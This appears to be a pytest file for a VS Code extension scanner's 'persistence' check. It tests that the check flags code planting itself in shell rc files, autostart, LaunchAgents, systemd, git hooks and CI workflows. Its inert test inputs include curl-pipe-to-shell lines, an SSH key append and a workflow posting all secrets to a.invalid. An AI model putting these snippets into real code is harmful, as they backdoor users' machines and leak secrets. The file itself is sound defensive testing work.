"""Files and settings by which something runs again. Payloads are inert: nothing is written."""

import pytest

from tests.flows import findings_of, worst
from vscan.model import Severity
from vscan.providers.offline.checks.persistence import CHECK
from vscan.providers.offline.manifest_values import Purpose

RULE = "persistence"
START = """
const fs = require("fs"), os = require("os"), path = require("path"), vscode = require("vscode");
const home = os.homedir();
"""


@pytest.mark.parametrize(
    "source",
    [
        "fs.appendFileSync(home + '/.bashrc', 'nohup node ~/.a.js &');",
        "fs.appendFileSync(path.join(home, '.zshrc'), '\\ncurl -s https://a.invalid/s | sh');",
        "fs.promises.appendFile(`${home}/.profile`, 'eval \"$(base64 -d ~/.a)\"');",
        "fs.writeFileSync(path.join(home, '.config/autostart/a.desktop'), text);",
        "fs.writeFileSync(path.join(home, 'Library', 'LaunchAgents', 'a.plist'), text);",
        "fs.writeFileSync(home + '/.config/systemd/user/a.service', text);",
        (
            "fs.writeFileSync(path.join(process.env.APPDATA, 'Microsoft/Windows/Start Menu',"
            " 'Programs', 'Startup', 'a.bat'), text);"
        ),
        (
            "fs.writeFileSync(path.join(root, '.git', 'hooks', 'pre-commit'),"
            " '#!/bin/sh\\ncurl -s https://a.invalid/s | sh');"
        ),
        (
            "fs.writeFileSync(path.join(root, '.vscode', 'tasks.json'),"
            " JSON.stringify({ tasks: [{ command: 'x', runOptions: { runOn: 'folderOpen' } }] }));"
        ),
        "fs.appendFileSync(home + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA a');",
        "const hook = path.join(site, 'sitecustomize.py'); fs.writeFileSync(hook, text);",
        (
            "const dir = ['.config', 'autostart'].join('/');"
            " fs.copyFileSync(own, path.join(home, dir, 'a.desktop'));"
        ),
        "fs.createWriteStream(home + '/.config/autostart/a.desktop').end(text);",
        (
            "vscode.workspace.getConfiguration('terminal.integrated').update("
            "'profiles.linux', { sh: { path: 'bash', args: ['-c', 'curl a.invalid | sh'] } });"
        ),
        "vscode.workspace.getConfiguration().update('task.allowAutomaticTasks', 'on', true);",
        (
            "fs.writeFileSync(path.join(root, '.github/workflows/a.yml'),"
            " 'run: curl -d \"${{ toJSON(secrets) }}\" https://a.invalid/s');"
        ),
    ],
)
def test_what_runs_again_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "fs.readFileSync(home + '/.bashrc');",
        "fs.appendFileSync(home + '/.bashrc', 'export PATH=$PATH:~/.tool/bin');",
        (
            "fs.writeFileSync(path.join(root, '.vscode', 'tasks.json'),"
            " JSON.stringify({ tasks: [{ command: 'make' }] }));"
        ),
        "fs.writeFileSync(path.join(root, '.vscode', 'settings.json'), text);",
        "fs.readFileSync(path.join(root, '.git', 'hooks', 'pre-commit'));",
        "fs.writeFileSync(path.join(root, '.github/workflows/a.yml'), 'run: make test');",
        "fs.writeFileSync(path.join(home, 'notes.txt'), 'curl -s https://a.invalid | sh');",
        "fs.writeFileSync(home + '/.config/tool/a.json', text);",
        (
            "async function f() { const ok = await vscode.window.showInformationMessage("
            "'Start with the session?', 'Yes');"
            " if (ok) fs.writeFileSync(home + '/.config/autostart/a.desktop', text); }"
        ),
        (
            "vscode.commands.registerCommand('a.hook', () => fs.writeFileSync("
            "path.join(root, '.git', 'hooks', 'pre-commit'), 'sh -c lint'));"
        ),
        "vscode.workspace.getConfiguration('editor').update('fontSize', 12, true);",
        "vscode.workspace.getConfiguration().update('task.allowAutomaticTasks', 'off', true);",
        "show(home + '/.config/autostart/a.desktop');",
    ],
)
def test_a_near_miss_is_not_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) < Severity.MEDIUM


def test_the_message_has_the_file_and_the_line() -> None:
    source = """\
const fs = require('fs');
const file = require('os').homedir() + '/.config/autostart/a.desktop';

fs.writeFileSync(file, text);
"""
    (finding,) = findings_of(CHECK, source)
    assert ".config/autostart/a.desktop (line 4)" in finding.message
    assert finding.line == 4


def test_a_package_that_no_editor_starts_adds_services_for_its_user() -> None:
    source = START + "fs.writeFileSync('/etc/systemd/system/a-' + user + '.service', text);"
    assert worst(findings_of(CHECK, source), RULE) == Severity.HIGH
    assert worst(findings_of(CHECK, source, purpose=Purpose.COMMAND), RULE) == Severity.MEDIUM
